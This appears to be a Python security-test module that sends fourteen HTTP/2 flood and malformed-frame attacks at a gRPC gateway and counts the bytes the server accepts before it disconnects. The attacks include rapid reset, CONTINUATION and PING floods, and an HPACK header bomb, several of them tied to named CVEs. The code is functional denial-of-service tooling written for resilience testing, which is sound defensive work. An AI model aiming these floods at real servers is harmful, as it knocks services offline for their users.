"""Floods and malformed traffic on one connection.

Each is a function of the gateway's address and of the most frames to send; it returns how many bytes the gateway took
before it hung up, or before there was no more to send.
"""

from __future__ import annotations

import struct
import time
from collections.abc import Callable, Mapping
from typing import Final, TypeAlias

from tests.security import wire
from tests.security.wire import Attacker, frame

Attack: TypeAlias = Callable[[str, int], int]
_PATH: Final = "/torchrelay.v1.ModelService/ListModels"
_BATCH: Final = 200


def _batches(count: int) -> list[range]:
    return [range(start, min(count, start + _BATCH)) for start in range(0, count, _BATCH)]


def _open_each(address: str, count: int, kind: int, payload: bytes) -> int:
    """Open streams, and send a frame of this kind on each at once, until the gateway hangs up."""
    with Attacker(address) as attacker:
        block = wire.grpc_headers(_PATH, address)
        for batch in _batches(count):
            data = b"".join(
                frame(wire.HEADERS, block, flags=wire.END_HEADERS, stream=2 * n + 1)
                + frame(kind, payload, stream=2 * n + 1)
                for n in batch
            )
            if attacker.send(data) < len(data):
                break
        return attacker.num_sent


def rapid_reset(address: str, count: int) -> int:
    """Streams that are opened and cancelled at once (CVE-2023-44487)."""
    return _open_each(address, count, wire.RST_STREAM, wire.CANCEL)


def made_you_reset(address: str, count: int) -> int:
    """Streams that the gateway itself must reset, for a window of 0 (CVE-2025-8671)."""
    return _open_each(address, count, wire.WINDOW_UPDATE, struct.pack(">I", 0))


def settings_flood(address: str, count: int) -> int:
    """SETTINGS, each of which must be acknowledged (CVE-2019-9515)."""
    return _repeat(address, count, frame(wire.SETTINGS, struct.pack(">HI", 4, 65535)))


def ping_flood(address: str, count: int) -> int:
    """PINGs, each of which must be answered (CVE-2019-9512)."""
    return _repeat(address, count, frame(wire.PING, b"12345678"))


def priority_flood(address: str, count: int) -> int:
    """PRIORITY of streams that do not exist (CVE-2019-9513)."""
    return _repeat(address, count, frame(wire.PRIORITY, struct.pack(">IB", 0, 16), stream=101))


def empty_data_flood(address: str, count: int) -> int:
    """DATA without data on one open stream (CVE-2019-9518)."""
    with Attacker(address) as attacker:
        attacker.send(frame(wire.HEADERS, wire.grpc_headers(_PATH, address), flags=wire.END_HEADERS, stream=1))
        _send_many(attacker, count, frame(wire.DATA, stream=1))
        return attacker.num_sent


def continuation_flood(address: str, count: int) -> int:
    """A header block that never ends (CVE-2024-27316)."""
    with Attacker(address) as attacker:
        attacker.send(frame(wire.HEADERS, wire.grpc_headers(_PATH, address), stream=1))
        _send_many(attacker, count, frame(wire.CONTINUATION, b"\x00\x01a\x7f\x81\x02" + b"b" * 512, stream=1))
        return attacker.num_sent


def header_bomb(address: str, count: int) -> int:
    """A long field in the dynamic table, named thousands of times by one byte each (CVE-2016-6581)."""
    with Attacker(address) as attacker:
        table = b"\x40\x01x\x7f\xa1\x1f" + b"y" * 4000  # literal with indexing: a value of 4,000 bytes
        block = wire.grpc_headers(_PATH, address) + table + b"\xbe" * min(count, 10_000)
        attacker.send(frame(wire.HEADERS, block[:16_000], flags=wire.END_HEADERS | wire.END_STREAM, stream=1))
        attacker.wait_until_closed(1)
        return attacker.num_sent


def oversized_frame(address: str, count: int) -> int:
    """A frame longer than the gateway said it takes."""
    with Attacker(address) as attacker:
        attacker.send(frame(wire.HEADERS, wire.grpc_headers(_PATH, address), flags=wire.END_HEADERS, stream=1))
        attacker.send(frame(wire.DATA, b"\0" * 65536, stream=1, length=(1 << 24) - 1) + b"\0" * min(count, 2000) * 1000)
        return attacker.num_sent


def window_overflow(address: str, count: int) -> int:
    """Windows that grow beyond 2**31-1."""
    with Attacker(address) as attacker:
        _send_many(attacker, min(count, 1000), frame(wire.WINDOW_UPDATE, struct.pack(">I", 0x7FFFFFFF)))
        attacker.wait_until_closed(2)
        return attacker.num_sent


def never_reads(address: str, count: int) -> int:
    """Calls whose answers are not read."""
    with Attacker(address) as attacker:
        block = wire.grpc_headers(_PATH, address)
        attacker.socket.setblocking(False)
        for n in range(min(count, 5000)):
            call = frame(wire.HEADERS, block, flags=wire.END_HEADERS | wire.END_STREAM, stream=2 * n + 1)
            try:
                attacker.num_sent += attacker.socket.send(call)
            except OSError:
                break
        time.sleep(0.5)
        return attacker.num_sent


def half_open_streams(address: str, count: int) -> int:
    """Streams whose request never comes, as many as the gateway takes, and more."""
    with Attacker(address) as attacker:
        block = wire.grpc_headers(_PATH, address)
        for batch in _batches(min(count, 5000)):
            data = b"".join(frame(wire.HEADERS, block, flags=wire.END_HEADERS, stream=2 * n + 1) for n in batch)
            if attacker.send(data) < len(data):
                break
        return attacker.num_sent


def slow_preface(address: str, count: int) -> int:
    """Connections that say a byte now and then, or nothing."""
    attackers = [Attacker(address, preface=False) for _ in range(min(200, max(10, count // 50)))]
    for attacker in attackers:
        attacker.send(wire.PREFACE[:5])
    time.sleep(0.3)
    for attacker in attackers:
        attacker.send(wire.PREFACE[5:7])
        attacker.close()
    return sum(attacker.num_sent for attacker in attackers)


def garbage(address: str, count: int) -> int:
    """Bytes that are no frames, behind a good preface."""
    with Attacker(address) as attacker:
        attacker.send(bytes(range(256)) * min(4000, max(4, count // 4)))
        return attacker.num_sent


def _repeat(address: str, count: int, one: bytes) -> int:
    with Attacker(address) as attacker:
        _send_many(attacker, count, one)
        return attacker.num_sent


def _send_many(attacker: Attacker, count: int, one: bytes) -> None:
    for batch in _batches(count):
        data = one * len(batch)
        if attacker.send(data) < len(data):
            return


ATTACKS: Final[Mapping[str, Attack]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        made_you_reset,
        settings_flood,
        ping_flood,
        priority_flood,
        empty_data_flood,
        continuation_flood,
        header_bomb,
        oversized_frame,
        window_overflow,
        never_reads,
        half_open_streams,
        slow_preface,
        garbage,
    )
}
